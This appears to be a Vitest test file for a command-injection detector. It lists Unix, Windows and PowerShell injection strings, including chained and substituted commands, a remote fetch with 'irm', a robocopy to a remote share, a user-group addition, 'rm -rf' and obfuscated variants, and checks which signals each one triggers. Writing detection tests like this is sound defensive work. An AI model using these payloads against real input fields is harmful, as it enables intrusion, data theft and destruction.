import { expect, test } from 'vitest';
import { createView } from '../../views/view.ts';
import { shell } from './shell.ts';

const signals = (text: string, parameter = 'f') =>
  shell
    .run(createView({ field: 'param_value', kind: 'decoded', decoded: [], text, parameter }))
    .map(({ name }) => name);

test.each([
  // Of Unix.
  ['b;lsblk', 'chained-command'],
  ['b|less /etc/hosts', 'chained-command'],
  ['b&&/usr/local/bin/x', 'chained-command'],
  ['b;x=5 uname -a', 'chained-command'],
  ["b';free -m #", 'chained-command'],
  ['`uname -r`', 'substitution'],
  ['b$(tac /etc/hosts)', 'substitution'],
  ['nohup lsof', 'whole-command'],
  ['bash -c x y', 'whole-command'],
  ['tail -n 3 /var/log/x', 'whole-command'],
  ['() { _; }; x', 'function-export'],
  ['b;{uname,-a}', 'chained-command'],
  // Of Windows.
  ['b&tasklist', 'chained-command'],
  ['b|c:/windows/system32/x.exe', 'chained-command'],
  ['b&type c:\\x.ini', 'chained-command'],
  ['b&netsh wlan show', 'chained-command'],
  ['b|whoami /all&rem', 'chained-command'],
  ['robocopy c:\\b \\\\192.0.2.7\\d', 'whole-command'],
  ['wmic qfe list', 'whole-command'],
  ['net localgroup b c /add', 'windows-command'],
  ['reg query hkcu\\software\\b', 'windows-command'],
  // Of PowerShell.
  ['b;gci', 'chained-command'],
  ['b|irm http://192.0.2.7/c', 'chained-command'],
  ['pwsh -c /b/c', 'whole-command'],
  // Of any system.
  ['b||hostname', 'chained-command'],
  ['python3 -c "b"', 'whole-command'],
])('finds in %j: %s', (text, signal) => {
  expect(signals(text)).toContain(signal);
});

test.each(["b;ls''blk", 'b;ls\\blk', 'b;l$@sblk', 'b;t^a^s^k^l^i^s^t', 'cat$IFS/x', 'b|sh'])(
  'finds a command that is hidden in %j',
  (text) => {
    expect(signals(text)).toContain('obfuscation');
  },
);

test.each([
  'less is more; free shipping',
  'cut | tail | split',
  'net income & net worth',
  'reg. office; sc 12',
  'start | copy | move',
  'wine & gps; free',
  'python; ruby; perl',
  'b^2 & c^2',
  "it's 5 o'clock; time to go",
  'find a way; make it so',
])('finds nothing in %j', (text) => {
  expect(signals(text)).toEqual([]);
});

test('a command that is typed into a search field is looked up', () => {
  expect(signals('rm -rf /b', 'q')).toEqual(['command-prose']);
  expect(signals('rm -rf /b')).toEqual(['whole-command']);
});

test('a parameter that is run needs no argument', () => {
  expect(signals('lsblk;', 'cmd')).toContain('whole-command');
  expect(signals('uname x', 'exec')).toContain('whole-command');
  expect(signals('uname x')).toEqual([]);
});
